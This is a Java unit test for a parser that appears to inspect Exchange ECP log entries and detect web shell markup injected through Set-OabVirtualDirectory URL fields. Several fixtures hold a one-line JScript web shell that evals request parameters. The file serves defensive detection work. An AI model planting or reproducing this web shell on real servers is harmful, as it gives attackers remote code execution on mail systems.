package org.wachtpost.inspect.artefact;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class EcpCommandTest {
  @Test
  void takesACommandApart() {
    EcpCommand command =
        EcpCommand.of(
            "S:TIME=1;S:SID=x;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script"
                + " language=''JScript'' runat=''server''>function Page_Load(){eval(Request[''a''],"
                + "''unsafe'');}</script>'.Identity='7a1b';S:REQID=;S:URL=/ecp/x?a=1");
    assertThat(command).isNotNull();
    assertThat(command.name()).isEqualTo("Set-OabVirtualDirectory");
    assertThat(command.parameter("identity")).isEqualTo("7a1b");
    assertThat(command.addresses())
        .singleElement()
        .asString()
        .contains("runat='server'")
        .endsWith("</script>");
    assertThat(EcpCommand.markup(command.addresses().getFirst())).isNotNull();
  }

  @Test
  void quotesOfAPairThatIsQuotedAsAWholeAreUndone() {
    EcpCommand command =
        EcpCommand.of(
            "S:TIME=1;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="
                + "\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"a\"],"
                + "\"unsafe\");}</script>''.Identity=''982d48c8''';;S:EX=;");
    assertThat(command).isNotNull();
    assertThat(command.parameter("identity")).isEqualTo("982d48c8");
    assertThat(EcpCommand.markup(command.addresses().getFirst())).isNotNull();
  }

  @Test
  void aQuoteNeverClosedAndNullValues() {
    EcpCommand command =
        EcpCommand.parse("Set-OabVirtualDirectory.InternalUrl=$null.ExternalUrl='http://f/<%");
    assertThat(command.addresses()).containsExactly("http://f/<%", "$null");
    assertThat(EcpCommand.markup("http://mail.example.test/OAB")).isNull();
    assertThat(EcpCommand.oddHost("http://f/")).isTrue();
    assertThat(EcpCommand.oddHost("https://mail.example.test/OAB")).isFalse();
  }

  /**
   * They were called web shells, and decided the verdict: names of hosts have such words in them.
   */
  @Test
  void aNameOfAHostIsNoCode() {
    for (String address :
        List.of(
            "https://mail.brunato.example/owa",
            "https://request.example.test/OAB",
            "https://retrieval.example.test/ecp")) {
      assertThat(EcpCommand.markup(address)).as(address).isNull();
    }
    for (String code :
        List.of(
            "http://f/#\"language=\"JScript\"runat =\"server\"",
            "http://f/x#Request.Item[\"a\"]",
            "http://f/x#Request [\"a\"];Page_Load()",
            "http://f/%3Cscript")) {
      assertThat(EcpCommand.markup(code)).as(code).isNotNull();
    }
  }

  @Test
  void survivesAnything() {
    long seed = 26858;
    System.out.println("EcpCommandTest seed " + seed);
    Random random = new Random(seed);
    String alphabet = "S:CMD=;.'\"$<%aZ-\0\n ";
    for (int round = 0; round < 20_000; round++) {
      StringBuilder text = new StringBuilder("S:CMD=Set-X.");
      for (int i = random.nextInt(60); i > 0; i--) {
        text.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      EcpCommand command = EcpCommand.of(text.toString());
      assertThat(command).as("seed %d round %d", seed, round).isNotNull();
    }
  }
}
